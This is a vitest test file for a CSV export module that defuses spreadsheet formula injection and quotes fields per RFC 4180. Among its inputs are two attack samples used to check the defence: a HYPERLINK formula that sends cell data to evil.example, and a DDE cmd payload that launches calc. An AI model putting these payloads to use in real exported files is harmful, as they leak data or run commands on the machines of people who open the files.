import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { csvAttachment, neutraliseFormula, tableToCsv, toCsv, type CsvCell } from '../src/csv.js';

/** One record, without the trailing CRLF, so each case reads as the bytes it produces. */
const line = (...cells: CsvCell[]) => toCsv([cells]).replace(/\r\n$/, '');

describe('csv', () => {
  // Expected outputs are written by hand from two rules: OWASP "CSV Injection" (prefix ' to a
  // cell starting with = + - @ tab CR) and RFC 4180 2.6/2.7 (quote a field holding , " CR LF;
  // double inner quotes). They are not produced by the code under test.
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['=1+1\n', `"'=1+1\n"`],
    ['-0.69', "'-0.69"],
  ])('neutralises the text cell %j as %j', (text, expected) => {
    expect(line(text)).toBe(expected);
  });

  it('neutralises what spreadsheets may still read as a formula: leading blanks, LF, full-width signs', () => {
    expect(line(' =1+1')).toBe("' =1+1");
    expect(line('\u00a0@SUM(A1)')).toBe("'\u00a0@SUM(A1)");
    expect(line('\n=1+1')).toBe(`"'\n=1+1"`);
    expect(line('\uff1d1+1')).toBe("'\uff1d1+1");
    expect(line('\uff0d2')).toBe("'\uff0d2");
  });

  it('keeps numeric cells numeric: a JS number, negative or not, is written as the number', () => {
    expect(line(-0.69, 0, 12, -3, 1.5e-7)).toBe('-0.69,0,12,-3,1.5e-7');
    // A number a spreadsheet cannot hold is text, and text is neutralised.
    expect(line(Number.NaN, Number.NEGATIVE_INFINITY, Number.POSITIVE_INFINITY)).toBe("NaN,'-Infinity,Infinity");
  });

  it('leaves harmless text alone, and empty cells empty', () => {
    expect(line('bert', 'a=b', "it's", 'x-y', 'user@example.org', '', null, undefined)).toBe(
      "bert,a=b,it's,x-y,user@example.org,,,",
    );
  });

  it('quotes embedded quotes, commas and line breaks as RFC 4180 requires, with CRLF between records', () => {
    expect(
      toCsv([
        ['say "hi"', 'a, b'],
        ['line\nbreak', 'cr\r\nlf'],
      ]),
    ).toBe('"say ""hi""","a, b"\r\n"line\nbreak","cr\r\nlf"\r\n');
  });

  it('round-trips through an RFC 4180 reader: every text cell comes back with its one-quote prefix', () => {
    const rows: CsvCell[][] = [
      ['rater', 'code', 'kappa'],
      ['=cmd|" /C calc"!A0', 'loss is "nan", again\nand again', -0.69],
      ['-', '@', 0.5],
    ];
    const back = parse(toCsv(rows), { relax_column_count: false }) as string[][];
    expect(back).toEqual([
      ['rater', 'code', 'kappa'],
      [`'=cmd|" /C calc"!A0`, 'loss is "nan", again\nand again', '-0.69'],
      ["'-", "'@", '0.5'],
    ]);
  });

  it('writes a table with its header, and a chat attachment any adapter can send as is', () => {
    const t = { columns: ['model', 'rho'], rows: [['=bert', -0.4663]] };
    expect(tableToCsv(t)).toBe("model,rho\r\n'=bert,-0.4663\r\n");
    expect(csvAttachment('trends', t)).toEqual({
      name: 'trends.csv',
      contentType: 'text/csv; charset=utf-8; header=present',
      content: "model,rho\r\n'=bert,-0.4663\r\n",
    });
  });

  it('neutraliseFormula is idempotent: an already neutralised cell starts with a quote and is left alone', () => {
    expect(neutraliseFormula(neutraliseFormula('=1'))).toBe("'=1");
  });
});
